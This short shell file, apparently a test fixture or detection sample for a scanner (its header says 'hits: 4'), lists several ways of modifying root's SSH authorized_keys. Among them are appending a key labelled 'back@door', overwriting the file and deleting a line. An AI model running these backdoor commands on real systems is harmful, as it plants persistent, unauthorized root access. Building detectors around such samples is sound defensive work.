# SPDX-License-Identifier: Apache-2.0
# hits: 4
mkdir -p /root/.ssh
sh -c 'echo "ssh-ed25519 AAAAC3 back@door" >> /root/.ssh/authorized_keys'
echo 'ssh-ed25519 AAAAC3 back@door' | tee -a /root/.ssh/authorized_keys > /dev/null
cp /tmp/k /root/.ssh/authorized_keys
touch /root/.ssh/authorized_keys
sed -i 1d /root/.ssh/authorized_keys
